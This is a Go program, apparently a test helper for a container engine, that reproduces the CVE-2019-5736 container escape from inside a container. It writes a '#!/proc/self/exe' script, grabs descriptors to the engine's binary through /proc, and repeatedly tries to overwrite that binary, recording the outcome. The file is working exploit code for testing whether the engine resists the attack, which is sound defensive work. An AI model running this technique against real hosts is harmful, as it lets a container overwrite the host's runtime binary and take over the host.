// Command exeattack plays the container side of the CVE-2019-5736 class of attacks on the
// engine's binary. It runs inside a container (never on the host), as its PID 1 or as a child
// of --init, with a results directory bind-mounted at /res:
//
//  1. It writes /bin/evil, a script whose interpreter is /proc/self/exe: when the engine
//     executes it in the container, the kernel runs the engine's own binary there.
//  2. It scans /proc without pause and keeps an O_PATH descriptor on the /proc/PID/exe of every
//     process whose binary is neither its own nor busybox, and writes /res/grabbed.
//  3. It then tries, again and again, to reopen each descriptor through /proc/self/fd for
//     writing, and records the first answer that is not ETXTBSY in /res/result: "written"
//     when it wrote into the binary, otherwise the error. With -all it goes on grabbing until
//     /res/go appears, then tries every descriptor once.
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// oPath is O_PATH, which package syscall does not name.
const oPath = 0x200000

type fileID struct{ dev, ino uint64 }

func idOf(path string) (fileID, bool) {
	var st syscall.Stat_t
	if err := syscall.Stat(path, &st); err != nil {
		return fileID{}, false
	}
	return fileID{st.Dev, st.Ino}, true
}

func main() {
	all := flag.Bool("all", false, "grab until /res/go exists, then try every descriptor")
	flag.Parse()
	if err := os.WriteFile("/bin/evil", []byte("#!/proc/self/exe\n"), 0o755); err != nil {
		fmt.Fprintln(os.Stderr, "writing /bin/evil:", err)
	}
	known := map[fileID]bool{}
	for _, p := range []string{"/proc/self/exe", "/bin/busybox"} {
		if id, ok := idOf(p); ok {
			known[id] = true
		}
	}
	self := strconv.Itoa(os.Getpid())
	var fds []int
	grabbed := map[fileID]bool{}
	note := func() {
		_ = os.WriteFile("/res/grabbed.tmp", []byte(strconv.Itoa(len(fds))), 0o644)
		_ = os.Rename("/res/grabbed.tmp", "/res/grabbed")
	}
	for {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			n := e.Name()
			if n[0] < '0' || n[0] > '9' || n == self {
				continue
			}
			fd, err := syscall.Open("/proc/"+n+"/exe", oPath|syscall.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st syscall.Stat_t
			if syscall.Fstat(fd, &st) != nil || known[fileID{st.Dev, st.Ino}] || grabbed[fileID{st.Dev, st.Ino}] {
				syscall.Close(fd)
				continue
			}
			grabbed[fileID{st.Dev, st.Ino}] = true
			fds = append(fds, fd)
			note()
		}
		if len(fds) > 0 && !*all {
			break
		}
		if *all {
			if _, err := os.Stat("/res/go"); err == nil {
				break
			}
		}
	}
	var results []string
	for _, fd := range fds {
		results = append(results, tryWrite(fd, !*all))
	}
	_ = os.WriteFile("/res/result.tmp", []byte(strings.Join(results, "\n")+"\n"), 0o644)
	_ = os.Rename("/res/result.tmp", "/res/result")
	for { // stay as the container's process until it is removed
		time.Sleep(time.Hour)
	}
}

// tryWrite reopens fd for writing through /proc/self/fd and, on success, overwrites the
// binary's first bytes. While the binary runs the kernel answers ETXTBSY: with wait it tries
// again until the answer changes.
func tryWrite(fd int, wait bool) string {
	for {
		w, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(fd), syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
		if err == nil {
			_, werr := syscall.Write(w, []byte("pwned by a container\n"))
			syscall.Close(w)
			if werr != nil {
				return "opened, write failed: " + werr.Error()
			}
			return "written"
		}
		if !errors.Is(err, syscall.ETXTBSY) || !wait {
			return err.Error()
		}
		time.Sleep(time.Millisecond)
	}
}
